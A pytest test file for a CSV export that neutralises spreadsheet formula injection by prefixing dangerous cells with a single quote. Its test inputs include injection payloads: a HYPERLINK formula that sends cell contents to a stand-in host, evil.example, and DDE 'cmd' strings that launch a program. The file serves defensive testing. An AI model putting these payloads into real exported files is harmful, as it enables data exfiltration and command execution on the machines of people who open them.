"""CSV cells a spreadsheet would run are neutralised (OWASP: a leading single quote); numbers stay numbers."""

from __future__ import annotations

import csv
import io

import pytest

from store.export import render
from store.model import EVENT_FIELDS
from store.text.spreadsheet import safe_csv_cell


@pytest.mark.parametrize(
    "cell",
    [
        '=HYPERLINK("https://evil.example/?"&A1,"Source")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "-",
        "=",
    ],
)
def test_a_cell_a_spreadsheet_would_run_gets_a_leading_quote(cell: str) -> None:
    assert safe_csv_cell(cell) == "'" + cell


@pytest.mark.parametrize(
    "cell", ["-2", "+3", "-2.5", "-1,000", "-.5", "1e6", "Egypt", "", "2023-08-02", "'x"]
)
def test_numbers_and_ordinary_text_are_left_alone(cell: str) -> None:
    assert safe_csv_cell(cell) == cell


def test_exported_csv_neutralises_formulas_in_every_text_field() -> None:
    event = dict.fromkeys(EVENT_FIELDS) | {
        "id": "a1",
        "sentence": "=cmd|' /C calc'!A0 said the convoy had left Gao.",
        "title": "@SUM(1+1): Egypt withdrawal",
        "doc": "-report.txt",
        "places": ["+Gao"],
        "figures": [{"value": -2, "unit": "degrees", "text": "-2 degrees"}],
        "countries": ["EG", "ML"],
    }
    rows = list(csv.DictReader(io.StringIO(render([event], "csv"))))
    row = rows[0]
    assert row["sentence"].startswith("'=cmd")
    assert row["title"] == "'@SUM(1+1): Egypt withdrawal"
    assert row["doc"] == "'-report.txt"
    assert row["places"] == "'+Gao"
    assert row["figures"] == "'-2 degrees"  # a number followed by words is text
    assert row["countries"] == "EG; ML"
    for value in row.values():
        assert not value.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_a_negative_number_alone_in_a_cell_stays_a_number() -> None:
    event = dict.fromkeys(EVENT_FIELDS) | {"id": "a2", "start": -2, "sentence": "Troops left."}
    row = next(csv.DictReader(io.StringIO(render([event], "csv"))))
    assert row["start"] == "-2"
